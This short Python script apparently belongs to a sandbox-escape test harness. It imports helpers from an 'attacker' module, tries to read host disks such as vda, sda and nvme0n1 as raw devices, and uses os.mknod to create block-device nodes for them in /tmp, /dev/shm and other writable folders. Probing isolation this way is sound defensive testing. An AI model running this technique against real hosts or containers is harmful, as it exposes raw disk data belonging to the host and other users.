"""Read the host's disks as raw devices, and make nodes for them where there are none."""

import os

from attacker import attempt, gained, read

DISKS = {
    "vda": (254, 0),
    "vdb": (253, 0),
    "sda": (8, 0),
    "nvme0n1": (259, 0),
    "xvda": (202, 0),
    "loop0": (7, 0),
}

for name, numbers in DISKS.items():
    with attempt():
        gained(f"{len(read(f'/dev/{name}'))} bytes of {name}")
    for folder in ("/scratch", "/tmp", "/dev/shm", "/data/outputs"):
        with attempt():
            os.mknod(f"{folder}/{name}", 0o60600, os.makedev(*numbers))
            gained(f"{len(read(f'{folder}/{name}'))} bytes of {name}")
        with attempt():
            os.unlink(f"{folder}/{name}")
